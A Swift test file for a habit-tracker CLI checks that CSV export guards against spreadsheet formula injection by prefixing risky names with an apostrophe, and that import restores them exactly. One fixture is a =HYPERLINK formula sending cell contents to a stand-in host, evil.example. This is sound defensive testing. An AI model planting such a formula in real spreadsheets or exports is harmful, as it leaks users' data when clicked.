import Foundation
import HabitCore
@testable import HabitSystem
import HabitTestSupport
import Testing
@testable import HabitStore
@testable import HabitCLI
@testable import HabitText

/// CSV export is opened in spreadsheets, which run a cell starting with `=`, `+`, `-` or `@` as
/// a formula (`=HYPERLINK(…)` leaks data when clicked). Export writes such a name with one
/// leading `'` (OWASP); import removes exactly that one, so the round trip stays exact.
@Suite(.enabled(if: RealBinary.isBuilt, "needs the built habit binary: run swift build"))
struct SpreadsheetSafetyTests {
    static let day = RealBinary.today.adding(days: -10)

    /// Each name and how the CSV export writes it.
    static let names: [(name: String, exported: String)] = [
        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\""),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("+49 anrufen", "'+49 anrufen"),
        ("-x", "'-x"),
        ("'zitiert", "''zitiert"),
        ("''doppelt", "'''doppelt"),
        ("Lesen", "Lesen"),
        ("1+1", "1+1"),
    ]

    @Test func formulaLikeNamesAreExportedAsTextAndImportedBackExactly() throws {
        let scratch = try ScratchFolder()
        let habits = Self.names.map { ($0.name, [Self.day]) }
        try scratch.write(HabitFiles.text(habits), to: scratch.dataFile)

        let export = try RealBinary.run(["export", "--format", "csv"], in: scratch)

        #expect(export.status == 0)
        let expected = ["name,date,state,amount,note"] + Self.names.map { $0.exported + ",\(Self.day),done,," }
        #expect(export.stdout == expected.joined(separator: "\n") + "\n")  // the date is never prefixed
        try scratch.write(export.stdout, to: scratch.file("export.csv"))
        var environment = RealBinary.environment(for: scratch)
        environment["HABIT_FILE"] = scratch.file("copy/habits.json")
        let imported = try RealBinary.run(["import", scratch.file("export.csv")], in: scratch, environment: environment)
        #expect(imported.status == 0, "\(imported.stderr)")
        let copy = try #require(HabitFiles.decode(scratch.bytes(scratch.file("copy/habits.json")) ?? []))
        #expect(copy.habits.map(\.name) == Self.names.map(\.name))  // the same names, no quote added or lost
        #expect(copy.habits.allSatisfy { $0.isDone(on: Self.day) })
    }

    @Test(arguments: [("'Hallo", "'Hallo"), ("'=1", "=1"), ("''x", "'x"), ("=1", "=1"), ("'", "'")])
    func importRemovesOnlyTheQuoteExportAdds(_ field: String, _ name: String) {
        #expect(HabitCSV.unguarded(field) == name)
    }
}
